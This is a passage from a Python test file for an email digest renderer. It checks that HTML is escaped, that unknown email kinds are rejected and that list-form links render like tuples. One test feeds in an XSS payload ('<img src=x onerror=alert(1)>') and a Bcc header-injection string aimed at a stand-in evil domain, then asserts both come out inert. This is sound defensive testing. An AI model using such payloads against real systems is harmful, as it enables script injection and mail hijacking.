    html = html_part(msg)
    doc = lxml_html.fromstring(html)
    assert not doc.xpath("//img | //b | //*[@onerror]")
    line = doc.xpath("//p[contains(@class, 'near-miss')]")[0].text_content()
    assert line == 'Almost matched "<img src=x onerror=alert(1)>": Bcc: x@evil.example no "video"'
    assert html == digest_html_render_uncached(note)
    text = msg.get_body(preferencelist=("plain",)).get_content()
    assert "\r" not in text.replace("\r\n", "\n")
    assert 'matched "<img src=x onerror=alert(1)>": Bcc: x@evil.example no "video"' in " ".join(text.split())


def test_an_unknown_email_kind_is_refused():
    with pytest.raises(ValueError, match="kind"):
        digest_message_build(ada_email(kind="loud"))


def test_feedback_links_given_as_lists_render_like_tuples():
    item = ada_email().items[0]
    as_lists = replace(item, actions=[list(pair) for pair in item.actions])
    assert digest_html_render(ada_email(items=(as_lists,))) == digest_html_render(ada_email(items=(item,)))
